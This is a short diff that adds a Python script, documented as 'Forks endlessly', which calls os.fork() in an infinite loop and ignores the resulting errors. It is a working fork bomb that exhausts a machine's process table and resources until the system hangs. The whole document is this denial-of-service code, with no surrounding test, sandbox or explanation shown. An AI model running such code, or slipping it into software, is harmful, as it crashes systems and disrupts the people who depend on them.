@@ -1,0 +1,9 @@
+"""Forks endlessly."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
